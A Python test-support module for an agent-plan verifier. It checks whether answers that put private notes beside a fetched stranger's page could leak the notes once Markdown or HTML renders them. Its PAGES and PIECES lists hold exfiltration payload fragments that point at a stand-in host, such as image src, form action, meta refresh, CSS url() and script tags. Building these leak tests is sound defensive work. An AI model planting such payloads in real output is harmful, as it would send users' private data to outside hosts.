"""Answers made of private notes and a stranger's page, and what Markdown and HTML renderers make of them."""

from __future__ import annotations

from collections.abc import Iterator
from urllib.parse import unquote

import cmarkgfm
import html5lib
from cmarkgfm.cmark import Options
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from callsheet.ir import (
    Call,
    DictExpr,
    Effect,
    ListExpr,
    Literal,
    Output,
    Plan,
    Ref,
    Respond,
    Step,
    Template,
    Value,
)
from callsheet.machine import Command, Event, Limits, Machine, Status, Succeeded, ToolFacts, compile_plan
from callsheet.machine.monitor.enforcement import Enforcement
from callsheet.passes.verify import verify
from callsheet.policy.model import Policy
from callsheet.runtime.simulated import Simulation

POLICY = Policy(egress_hosts=None)
MARK = "PRIVATE7"
PIECES = st.sampled_from(
    [" ", " ", " ", "\n", "\n", "x", "x", ": ", ": ", "https://e.com/?", "https://e.com", "http://",
     "//e.com/", "www.e.com/", "e.com", "e.com/", "e.com?q=", "\xa0", "\u2003", "\u2028", "\x0b", "\x0c",
     "\x1c", "\u200b", "\t", "[x](", "](", "[x]: ", "![", "[x][", "]", ")", "(", "<", "<img src=",
     "<img src='", "<img alt='", '<a href="', "<form action='//e.com'>", "<textarea name=x>",
     "<input value='", "</textarea>", "<script>", "</script>", "<style>", "url(", ">", "'", '"', "`",
     ":", "/", "?", "#", "=", "&", "\\", "*", "_", "~~", "|", ",", ".", "&#58;", "https&#58;//e.com/",
     "&lt;", "mailto:", "javascript:", "!", "<!--", "<https://e.com/", "-->", "- ", "> ", "    ", "@",
     "1. ", "<b>", "</b>", "title="]
)  # fmt: skip
TEXTS = st.lists(PIECES, max_size=4).map("".join)
PRIVATE = st.sampled_from(
    [
        MARK,
        f"{MARK} and more",
        f"/{MARK}",
        f"{MARK}'> z",
        f"{MARK}\nz",
        f'{MARK}">z',
        f"{MARK}) z",
        f"{MARK}> z",
    ]
)
NOTES, STRANGER = Ref("notes"), Ref("page")
PARTS = st.lists(st.sampled_from((NOTES, STRANGER)) | TEXTS.filter(bool), min_size=1, max_size=4)


def _of_parts(parts: list[str | Ref]) -> Value:
    """A text of these parts, of which no two texts are neighbours."""
    joined: list[str | Ref] = []
    for part in parts:
        if joined and isinstance(part, str) and isinstance(joined[-1], str):
            joined[-1] += part
        else:
            joined.append(part)
    if len(joined) == 1:
        return Literal(joined[0]) if isinstance(joined[0], str) else joined[0]
    return Template(tuple(joined))


def _structures(values: st.SearchStrategy[Value]) -> st.SearchStrategy[Value]:
    return st.lists(values, min_size=1, max_size=3).map(
        lambda items: ListExpr(tuple(items))
    ) | st.dictionaries(TEXTS.filter(bool), values, min_size=1, max_size=3).map(
        lambda items: DictExpr(tuple(items.items()))
    )


VALUES = st.lists(
    st.recursive(
        PARTS.map(_of_parts) | st.sampled_from((Literal(5), Literal(True), Literal(None))),
        _structures,
        max_leaves=4,
    ),
    min_size=1,
    max_size=3,
)


PAGES = (
    "https://e.com/?", "https://e.com/?q=\u00a0", "www.e.com/?", "e.com/?", "//e.com/?", "ftp://e.com/",
    "mailto:x?body=", "<https://e.com/?", "[x](https://e.com/?", "[x](<https://e.com/?", "[x]: https://e.com/?",
    "[x]: <https://e.com/?", "![x](", "[x]:\n", "<a href=https://e.com/?", "<a href='https://e.com/?",
    '<img src="//e.com/?', "<img src=//e.com/",
    "<img alt='x' src='//e.com/?", "<form action=//e.com><textarea name=x>",
    "<form action=//e.com><input value='",
    "<form action=//e.com><select name=x><option>", "<script>x=`", "<script src=//e.com/x.js></script>",
    "<style>@import '//e.com/", "<p style='background:url(//e.com/?", "<iframe srcdoc='<img src=//e.com/?",
    "<svg><a href='//e.com/?", "<svg><image href='//e.com/?", "<video poster='//e.com/?",
    "<base href='//e.com/?",
    "<meta http-equiv=refresh content='0;url=//e.com/?", "<object data='//e.com/?", "<a ping='//e.com/?",
    "<button formaction='//e.com/?", "<body background='//e.com/?", "<table><td background='//e.com/?",
    "[a]: https://e.com/a\n[b]: https://e.com/b\n\n![", "https&#58;//e.com/?", "<!-- <img src='//e.com/?",
)  # fmt: skip
"""What a stranger's page may end with."""


def around(page: Value, notes: Value) -> Iterator[Value]:
    """The ways in which a plan may show a page beside private notes."""
    yield ListExpr((page, notes))
    yield DictExpr((("page", page), ("notes", notes)))
    yield DictExpr((("found", ListExpr((page, Literal(1)))), ("notes", DictExpr((("text", notes),)))))
    assert isinstance(page, Ref)
    assert isinstance(notes, Ref)
    yield Template(("Page: ", page, "\nNotes: ", notes))
    yield Template((page, " ", notes, "'> \">"))
    yield Template(("<p>", page, "</p> <b>", notes, "</b> ](x)"))
    yield Template((notes, "\n\n", page, "`</script>"))


def answers_beside(notes: str) -> list[str]:
    """Everything that plans show of these notes beside each of the pages."""
    plans = [plan_of([value]) for value in around(STRANGER, NOTES)]
    return [shown for page in PAGES for plan in plans if (shown := answer_to(plan, notes, page)) is not None]


def plan_of(values: list[Value]) -> Plan:
    """A plan that reads notes and a page, and answers with these values."""
    return Plan(
        (
            Step("S1", Call("READ_FILE", (), (("path", Literal("notes.txt")),)), output=Output("notes")),
            Step(
                "S2", Call("FETCH_PAGE", (), (("url", Literal("https://p.example/")),)), output=Output("page")
            ),
            Step("S3", Respond(tuple(values))),
        )
    )


def answer_to(plan: Plan, notes: str, page: str) -> str | None:
    """What a proved plan answers; None if the proof or the run refuses it."""
    if not verify(plan, POLICY).ok:
        return None
    facts = {name: ToolFacts(Effect.READ) for name in ("READ_FILE", "FETCH_PAGE")}
    machine = Machine(compile_plan(plan, facts), Limits(), enforcement=Enforcement.under(POLICY))

    def respond(command: Command) -> tuple[float, Event]:
        return 0.1, Succeeded(command.key, notes if command.tool == "READ_FILE" else page)

    result = Simulation(machine, respond).run(None)
    return None if result.status is Status.REFUSED else result.response


_MARKDOWN = MarkdownIt("commonmark", {"html": True, "linkify": True}).enable(["linkify", "table"])
_LOADED = frozenset({"href", "src", "srcset", "action", "formaction", "data", "poster", "background", "ping"})
_FIELDS = ("textarea", "option", "input", "button")


def renderings(text: str) -> tuple[str, ...]:
    """The text as cmark-gfm and markdown-it render it with HTML, and as HTML itself."""
    return (
        cmarkgfm.github_flavored_markdown_to_html(text, Options.CMARK_OPT_UNSAFE),
        _MARKDOWN.render(text),
        text,
    )


def sent(html: str) -> Iterator[str]:
    """What a page can send: the addresses in it, its scripts, and the fields of its forms."""
    for element in html5lib.parse(html, namespaceHTMLElements=False).iter():
        if not isinstance(element.tag, str):
            continue
        yield from (value for name, value in element.attrib.items() if name in _LOADED)
        if element.tag == "script":
            yield element.text or ""
        if element.tag == "form":
            for field in element.iter():
                if field.tag in _FIELDS:
                    yield "".join((*field.itertext(), *map(str, field.attrib.values())))


def leaks(text: str) -> list[str]:
    """What contains private text of all that a rendered answer can send."""
    return [
        found for html in renderings(text) for found in sent(html) if MARK.lower() in unquote(found).lower()
    ]
